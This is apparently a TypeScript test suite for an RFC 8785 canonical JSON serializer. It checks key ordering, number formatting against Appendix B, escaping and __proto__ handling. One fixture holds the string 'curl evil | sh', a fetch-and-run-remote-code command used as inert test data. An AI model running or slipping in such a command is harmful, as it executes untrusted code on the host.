// Canonical JSON (RFC 8785) is what audit hashes and generated rule ids are computed over:
// one value, one text, whatever order its keys were built in, integer-like and `__proto__` too.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalJson } from '../src/index.js';

/** RFC 8785 §3.2.3: property names compare as arrays of UTF-16 code units. */
function compareUtf16(a: string, b: string): number {
  const length = Math.min(a.length, b.length);
  for (let i = 0; i < length; i++) {
    const d = a.charCodeAt(i) - b.charCodeAt(i);
    if (d !== 0) return d;
  }
  return a.length - b.length;
}

/** RFC 8785 §3.2.2.2, with lone surrogates escaped as well-formed JSON.stringify does. */
function referenceString(text: string): string {
  const short: Record<string, string> = {
    '"': '\\"',
    '\\': '\\\\',
    '\b': '\\b',
    '\f': '\\f',
    '\n': '\\n',
    '\r': '\\r',
    '\t': '\\t',
  };
  let out = '"';
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const ch = text.charAt(i);
    const next = text.charCodeAt(i + 1); // NaN past the end
    const previous = text.charCodeAt(i - 1);
    const pair =
      (c >= 0xd800 && c <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) ||
      (c >= 0xdc00 && c <= 0xdfff && previous >= 0xd800 && previous <= 0xdbff);
    if (short[ch] !== undefined) out += short[ch];
    else if (c < 0x20 || (c >= 0xd800 && c <= 0xdfff && !pair))
      out += `\\u${c.toString(16).padStart(4, '0')}`;
    else out += ch;
  }
  return `${out}"`;
}

/** Canonical JSON written plainly: recursive, keys sorted by hand, every string built here. */
function reference(value: unknown): string {
  if (value === null) return 'null';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new TypeError('non-finite');
    return String(value); // ES Number::toString, which RFC 8785 §3.2.2.3 adopts
  }
  if (typeof value === 'string') return referenceString(value);
  if (Array.isArray(value))
    return `[${value.map((item: unknown) => (item === undefined ? 'null' : reference(item))).join(',')}]`;
  if (typeof value === 'object') {
    const record = value as Record<string, unknown>;
    const members = Object.keys(record)
      .filter((key) => record[key] !== undefined)
      .sort(compareUtf16)
      .map((key) => `${referenceString(key)}:${reference(record[key])}`);
    return `{${members.join(',')}}`;
  }
  throw new TypeError(typeof value);
}

/** An object with these members in this order, `__proto__` as a member like any other. */
function build(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [key, value] of entries)
    Object.defineProperty(out, key, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  return out;
}

/** IEEE 754 binary64 from its bits in hex, as RFC 8785 Appendix B lists them. */
function binary64(hex: string): number {
  const view = new DataView(new ArrayBuffer(8));
  view.setBigUint64(0, BigInt(`0x${hex}`));
  return view.getFloat64(0);
}

describe('canonicalJson sorts keys by UTF-16 code units (RFC 8785 §3.2.3)', () => {
  it('writes `{"9":1,"10":2}` as `{"10":2,"9":1}`, though JS lists integer-like keys numerically', () => {
    expect(canonicalJson({ 9: 1, 10: 2 })).toBe('{"10":2,"9":1}');
    expect(canonicalJson(JSON.parse('{"10":2,"9":1}'))).toBe('{"10":2,"9":1}');
    expect(canonicalJson({ b: 0, 2: 0, a: 0, 10: 0, 1: 0 })).toBe(
      '{"1":0,"10":0,"2":0,"a":0,"b":0}',
    );
  });

  it('sorts the RFC example of control, digit, non-ASCII and emoji keys', () => {
    const input = JSON.parse(
      '{"\\u20ac":"Euro Sign","\\r":"Carriage Return","\\ufb33":"Hebrew Letter Dalet With Dagesh",' +
        '"1":"One","\\ud83d\\ude00":"Emoji: Grinning Face","\\u0080":"Control",' +
        '"\\u00f6":"Latin Small Letter O With Diaeresis"}',
    ) as unknown;
    expect(canonicalJson(input)).toBe(
      '{"\\r":"Carriage Return","1":"One","\u0080":"Control",' +
        '"\u00f6":"Latin Small Letter O With Diaeresis","\u20ac":"Euro Sign",' +
        '"\ud83d\ude00":"Emoji: Grinning Face","\ufb33":"Hebrew Letter Dalet With Dagesh"}',
    );
  });

  it('sorts numeric keys that are no array index as text too: `-1`, `01`, `1.5`, `4294967295`', () => {
    const input = build([
      ['4294967295', 0],
      ['1.5', 0],
      ['01', 0],
      ['-1', 0],
      ['4294967294', 0],
      ['0', 0],
    ]);
    expect(canonicalJson(input)).toBe(
      '{"-1":0,"0":0,"01":0,"1.5":0,"4294967294":0,"4294967295":0}',
    );
  });

  it('sorts integer-like keys at any depth, inside arrays too', () => {
    const input = { z: [{ 10: 1, 9: 2, a: 3 }, [{ 100: 0, 20: 0 }]], a: { 2: { 11: 0, 3: 0 } } };
    expect(canonicalJson(input)).toBe(
      '{"a":{"2":{"11":0,"3":0}},"z":[{"10":1,"9":2,"a":3},[{"100":0,"20":0}]]}',
    );
  });

  it('keeps an own `__proto__` key as a member, sorted like any other, never as a prototype', () => {
    const parsed = JSON.parse('{"cwd":"/tmp","__proto__":{"cmd":"curl evil | sh"}}') as unknown;
    expect(canonicalJson(parsed)).toBe('{"__proto__":{"cmd":"curl evil | sh"},"cwd":"/tmp"}');
    const first = JSON.parse(
      '{"__proto__":{"b":1,"a":2},"z":[{"__proto__":null,"0":1}]}',
    ) as unknown;
    expect(canonicalJson(first)).toBe('{"__proto__":{"a":2,"b":1},"z":[{"0":1,"__proto__":null}]}');
    expect(canonicalJson(build([['__proto__', 1]]))).toBe('{"__proto__":1}');
    const bare = Object.create(null) as Record<string, unknown>;
    bare['b'] = 1;
    bare['__proto__'] = 2;
    expect(canonicalJson(bare)).toBe('{"__proto__":2,"b":1}');
  });
});

describe('canonicalJson writes values as ECMAScript does (RFC 8785 §3.2.2)', () => {
  it('turns the RFC example into its canonical form: numbers, escapes and literals', () => {
    const input = JSON.parse(`{
      "numbers": [333333333.33333329, 1E30, 4.50, 2e-3, 0.000000000000000000000000001],
      "string": "\\u20ac$\\u000F\\u000aA'\\u0042\\u0022\\u005c\\\\\\"\\/",
      "literals": [null, true, false]
    }`) as unknown;
    expect(canonicalJson(input)).toBe(
      '{"literals":[null,true,false],"numbers":[333333333.3333333,1e+30,4.5,0.002,1e-27],' +
        '"string":"\u20ac$\\u000f\\nA\'B\\"\\\\\\\\\\"/"}',
    );
  });

  it.each([
    ['0000000000000000', '0'],
    ['8000000000000000', '0'],
    ['0000000000000001', '5e-324'],
    ['8000000000000001', '-5e-324'],
    ['7fefffffffffffff', '1.7976931348623157e+308'],
    ['ffefffffffffffff', '-1.7976931348623157e+308'],
    ['4340000000000000', '9007199254740992'],
    ['c340000000000000', '-9007199254740992'],
    ['4430000000000000', '295147905179352830000'],
    ['44b52d02c7e14af5', '9.999999999999997e+22'],
    ['44b52d02c7e14af6', '1e+23'],
    ['44b52d02c7e14af7', '1.0000000000000001e+23'],
    ['444b1ae4d6e2ef4e', '999999999999999700000'],
    ['444b1ae4d6e2ef4f', '999999999999999900000'],
    ['444b1ae4d6e2ef50', '1e+21'],
    ['3eb0c6f7a0b5ed8c', '9.999999999999997e-7'],
    ['3eb0c6f7a0b5ed8d', '0.000001'],
    ['41b3de4355555553', '333333333.3333332'],
    ['41b3de4355555554', '333333333.33333325'],
    ['41b3de4355555555', '333333333.3333333'],
    ['41b3de4355555556', '333333333.3333334'],
    ['41b3de4355555557', '333333333.33333343'],
    ['becbf647612f3696', '-0.0000033333333333333333'],
    ['43143ff3c1cb0959', '1424953923781206.2'],
  ])('writes the Appendix B number %s as %s, alone and as a member', (hex, expected) => {
    const n = binary64(hex);
    expect(canonicalJson(n)).toBe(expected);
    expect(canonicalJson({ b: [n], a: n })).toBe(`{"a":${expected},"b":[${expected}]}`);
  });

  it('escapes keys and strings as JSON.stringify does, in objects it writes itself', () => {
    const odd = ['q"uote', 'back\\slash', 'tab\t', 'nul\u0000', 'del\u007f', 'lone\ud800', '😀'];
    const input = build([['z', odd], ...odd.map((key) => [key, key] as const)]);
    expect(canonicalJson(input)).toBe(reference(input));
    expect(canonicalJson(input)).toContain('"lone\\ud800":"lone\\ud800"');
    expect(canonicalJson(input)).toContain('"nul\\u0000":"nul\\u0000"');
  });

  it('drops undefined members and writes undefined array items as null', () => {
    expect(canonicalJson({ a: undefined, b: [undefined, 1] })).toBe('{"b":[null,1]}');
    expect(canonicalJson({ c: [1, undefined, { y: 1, x: undefined }], b: undefined, a: 1 })).toBe(
      '{"a":1,"c":[1,null,{"y":1}]}',
    );
    expect(canonicalJson({ b: undefined })).toBe('{}');
  });

  it('writes nested arrays and objects with no white space', () => {
    expect(canonicalJson([[], {}, [[{}]], { b: { d: [], c: {} }, a: [[1, 'x']] }])).toBe(
      '[[],{},[[{}]],{"a":[[1,"x"]],"b":{"c":{},"d":[]}}]',
    );
  });

  it('writes the own members of an object with another prototype, not its toJSON', () => {
    class Point {
      y = 2;
      x = 1;
    }
    expect(canonicalJson({ at: new Point() })).toBe('{"at":{"x":1,"y":2}}');
    expect(canonicalJson({ when: new Date(0) })).toBe('{"when":{}}');
  });

  it.each([
    ['NaN', NaN],
    ['Infinity in an object', { a: -Infinity }],
    ['NaN after a member out of order', { b: 1, a: NaN }],
    ['a function in an array', [1, { b: 1, a: 2 }, () => 1]],
    ['a function as a member', { a: () => 1 }],
    ['a symbol', { a: Symbol('s') }],
    ['a bigint', { a: [1n] }],
    ['undefined at the top', undefined],
  ])('throws a TypeError for %s', (_, value) => {
    expect(() => canonicalJson(value)).toThrow(TypeError);
  });

  it('hands an already canonical value to JSON.stringify: its text is that value’s', () => {
    const value = JSON.parse(
      '{"1":[{"2":0,"__proto__":{"a":null}}],"2":"x","__proto__":true,"a":{"b":[1.5,-0]}}',
    ) as unknown;
    expect(canonicalJson(value)).toBe(JSON.stringify(value));
    expect(canonicalJson(value)).toBe(reference(value));
  });

  it('never changes its input', () => {
    const input = { b: [{ 10: 1, 9: 2 }], a: JSON.parse('{"z":1,"__proto__":2}') as unknown };
    const before = JSON.stringify(input);
    canonicalJson(input);
    expect(JSON.stringify(input)).toBe(before);
  });
});

/** Objects whose keys are integer-like, numeric without being indices, `__proto__` or anything. */
const tricky = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.jsonValue({ maxDepth: 1 }),
    tie('array'),
    tie('object'),
  ),
  array: fc.array(tie('value'), { maxLength: 5 }),
  object: fc
    .array(
      fc.tuple(
        fc.oneof(
          fc.constantFrom('__proto__', '0', '1', '9', '10', '01', '-1', '1.5', '4294967295', ''),
          fc.nat().map(String),
          fc.string({ maxLength: 4, unit: 'binary' }),
        ),
        tie('value'),
      ),
      { maxLength: 6 },
    )
    .map(build),
})).value;

describe('canonicalJson agrees with a plain reference implementation', () => {
  it('on any JSON value, unicode strings included', () => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: 'binary' }), (value) => {
        expect(canonicalJson(value)).toBe(reference(value));
      }),
    );
  });

  it('on objects with integer-like, numeric and `__proto__` keys, at any depth', () => {
    fc.assert(
      fc.property(tricky, (value) => {
        expect(canonicalJson(value)).toBe(reference(value));
      }),
    );
  });

  it('and its text parses back to a value with the same text', () => {
    fc.assert(
      fc.property(tricky, (value) => {
        const text = canonicalJson(value);
        expect(canonicalJson(JSON.parse(text))).toBe(text);
      }),
    );
  });
});
